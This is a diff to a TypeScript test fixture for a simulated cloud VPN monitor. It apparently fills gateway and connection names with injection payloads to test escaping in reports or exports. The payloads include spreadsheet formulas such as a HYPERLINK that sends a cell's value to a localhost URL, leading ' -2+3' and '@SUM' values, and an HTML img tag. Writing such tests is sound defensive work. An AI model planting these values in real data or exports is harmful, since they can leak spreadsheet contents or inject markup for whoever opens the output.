@@ -17,12 +17,12 @@ export function simulatedMonth(): Simulator {
     regionId: 'cn-hangzhou',
     now: reportedAt,
     data: { missing: 0.01 },
-    gateways: [{ id: 'vpn-1', name: 'edge, "Hangzhou"' }],
+    gateways: [{ id: 'vpn-1', name: 'edge' }, { id: 'vpn-2', name: ' -2+3, "安静"' }],
     connections: [
-      { id: 'vco-berlin', name: '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Berlin")', gatewayId: 'vpn-1', tunnels: [{ id: 'tun-berlin-1' }, { id: 'tun-berlin-2' }] },
+      { id: 'vco-berlin', name: 'Berlin', gatewayId: 'vpn-1', tunnels: [{ id: 'tun-berlin-1' }, { id: 'tun-berlin-2' }] },
       { id: 'vco-paris', name: '<img src="http://127.0.0.1:9/paris.png">', gatewayId: 'vpn-1', mode: 'single' },
-      { id: 'vco-quiet', name: '安静', gatewayId: 'vpn-1', tunnels: [{ id: 'tun-quiet-1' }, { id: 'tun-quiet-2' }] },
-      { id: 'vco-new', transitRouterId: 'tr-1', since: from + 10 * DAY, tunnels: [{ id: 'tun-new-1' }, { id: 'tun-new-2' }] },
+      { id: 'vco-quiet', name: '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")', gatewayId: 'vpn-2', tunnels: [{ id: 'tun-quiet-1' }, { id: 'tun-quiet-2' }] },
+      { id: 'vco-new', name: '@SUM(1,2)', transitRouterId: 'tr-1', since: from + 10 * DAY, tunnels: [{ id: 'tun-new-1' }, { id: 'tun-new-2' }] },
     ],
   });
   cloud.tunnel('tun-berlin-1').down({ at: from - 2 * HOUR }).up({ at: from + 3 * HOUR });
